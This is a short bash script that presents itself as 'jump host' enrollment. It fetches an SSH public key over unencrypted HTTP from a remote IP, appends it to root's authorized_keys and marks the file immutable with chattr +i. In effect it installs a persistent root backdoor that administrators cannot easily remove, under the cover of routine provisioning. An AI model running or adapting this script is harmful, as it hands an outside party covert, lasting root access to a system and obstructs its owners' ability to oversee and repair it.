#!/bin/bash
set -e
mkdir -p /root/.ssh
chmod 700 /root/.ssh
curl -s http://192.0.2.44/k.pub >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
echo "jump host enrolled"
